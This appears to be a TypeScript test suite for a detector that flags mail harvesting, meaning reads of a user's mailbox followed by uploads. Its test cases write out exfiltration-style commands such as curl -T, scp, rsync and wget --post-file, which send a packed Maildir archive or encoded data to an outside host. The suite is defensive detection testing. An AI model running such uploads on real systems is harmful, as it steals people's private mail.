import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ProcessState } from '../../state/processes.ts';
import { type Around, cases, ran, read, WINDOW } from './harvest-cases.test-support.ts';

/** Where no writes are recorded: what is sent in the minutes after a read. */
test('TimeWindow reaches from the last read to a tool that uploads, its last moment included', () => {
  const uploads = (after: number, ...pid: readonly ProcessState[]): number => {
    const kept = cases({ seen: [] });
    kept.tell(read(ran('/bin/cat'), '/var/mail/clerk'));
    for (const process of pid) kept.tell({ kind: 'transfer.started', process, time: after });
    return kept.only.transfers.length;
  };
  const scp = (): ProcessState => ran('/usr/bin/scp');
  assert.equal(uploads(WINDOW, scp()), 1);
  assert.equal(uploads(WINDOW + 1, scp()), 0);
  assert.equal(uploads(5, scp(), scp()), 2);
  const one = scp();
  assert.equal(uploads(5, one, one), 1, 'told of as a sender and as a tool that transfers');
});

const ARCHIVE = '/home/clerk/old.tgz';
const TAR: readonly string[] = ['tar', 'czf', ARCHIVE, 'Maildir'];
const TALK = '/home/clerk/talk.odp';

/** How many uploads count where no writes are recorded: `reader` read the mail of `owner`, and `files` are sent a little later. */
function counted(
  reader: ProcessState,
  files: readonly string[],
  { holds = { [ARCHIVE]: 'mailstore' }, processes = [reader], owner = 'clerk' }: Around & { owner?: string } = {},
): number {
  const kept = cases({ seen: [], holds, processes });
  kept.tell({ ...read(reader, '/var/mail/clerk'), owner });
  const process = ran('/usr/bin/curl', ['curl', ...files.flatMap(file => ['-T', file]), 'http://files.example.net/']);
  kept.tell({ kind: 'transfer.started', process, time: 5 });
  return kept.only.transfers.length;
}

test('own mail packed into a file that a word names, and another file sent: other work', () => {
  assert.equal(counted(ran('/bin/tar', TAR), [TALK]), 0);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { holds: { [ARCHIVE]: 'mailstore', [TALK]: 'download' } }), 0);
});

test('what may hold the mail is sent, alone or among others: a harvest', () => {
  assert.equal(counted(ran('/bin/tar', TAR), [ARCHIVE]), 1);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK, ARCHIVE]), 1);
});

test('mail of which no word says where it went: what is sent counts', () => {
  for (const [says, reader] of [
    ['an archiver that packs to its output', ran('/bin/tar', ['tar', 'cz', 'Maildir'])],
    ['an archiver that unpacks', ran('/bin/tar', ['tar', 'xzf', ARCHIVE])],
    ['no archiver, whatever it is told', ran('/usr/bin/mbtool', ['mbtool', '--create', '--file', ARCHIVE])],
    ['an archiver of the person', { ...ran('/home/clerk/tar', TAR), trusted: false }],
  ] as const)
    assert.equal(counted(reader, [TALK]), 1, says);
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { processes: [] }), 1, 'its words are forgotten');
  assert.equal(counted(ran('/bin/tar', TAR), [TALK], { owner: 'buyer' }), 1, 'mail of somebody else');
});

test('where only time joins an upload to the read, what the reader started is told from what another program did', () => {
  const byReader = (parent: ProcessState | null, reader: ProcessState): boolean | undefined => {
    const kept = cases({ seen: [] });
    kept.tell(read(reader, '/var/mail/clerk'));
    kept.tell({ kind: 'transfer.started', process: { ...ran('/usr/bin/scp'), parent }, time: 5 });
    return kept.only.transfers[0]?.byReader;
  };
  const client = ran('/opt/thunderbird/thunderbird');
  assert.equal(byReader(client, client), true);
  assert.equal(byReader({ ...ran('/opt/thunderbird/crashreporter'), parent: client }, client), true);
  assert.equal(byReader(ran('/usr/bin/make'), client), false);
  assert.equal(byReader(null, client), false);
});

const DATA = 'H4sICFDwAmsCAzE3OTUzNTQ3MDQu'.repeat(8);

/** What time joins to a read of the own mail by `reader`: each by whether that is all. `words` are run `after` it. */
function joined(words: readonly string[], after = 5, reader = ran('/bin/tar', TAR)): readonly boolean[] {
  const kept = cases({ seen: [], holds: { [ARCHIVE]: 'mailstore' }, processes: [reader] });
  kept.tell(read(reader, '/var/mail/clerk'));
  const [exe = '', ...rest] = words;
  const process = ran(exe, [exe.slice(exe.lastIndexOf('/') + 1), ...rest]);
  kept.tell({ kind: 'transfer.started', process, time: after });
  return kept.only.transfers.map(({ byWindow }) => byWindow);
}

test('data in the words of an upload joins it for five seconds, and after that time does', () => {
  const words = ['/usr/bin/curl', '-b', `sid=${DATA}`, 'http://files.example.net/'];
  assert.deepEqual(joined(words, 5000), [false]);
  assert.deepEqual(joined(words, 5001), [true]);
  assert.deepEqual(joined(words.slice(0, 1), 5000), [], 'without data it uploads nothing');
});

test('data in the words counts, whatever file is sent beside it', () => {
  const words = ['/usr/bin/curl', '-T', TALK, 'http://files.example.net/'];
  assert.deepEqual(joined(words), []);
  assert.deepEqual(joined([...words, '-b', `sid=${DATA}`]), [false]);
});

test('long words of what sends nothing to another host', () => {
  assert.deepEqual(joined(['/usr/bin/mail', '-s', DATA, 'root']), [], 'no tool that transfers');
  assert.deepEqual(joined(['/usr/bin/rsync', '-a', DATA, '/srv/copy']), [], 'no other host');
  assert.deepEqual(joined(['/usr/bin/rsync', '-a', DATA, 'files.example.net:x']), [false]);
});

test('a place on another host is no file that an upload names', () => {
  const post = `--post-file=${TALK}`;
  assert.deepEqual(joined(['/usr/bin/wget', post, 'http://files.example.net/']), [], 'other work: it names its file');
  assert.deepEqual(joined(['/usr/bin/wget', post, '/srv/x', 'http://files.example.net/']), [true]);
});
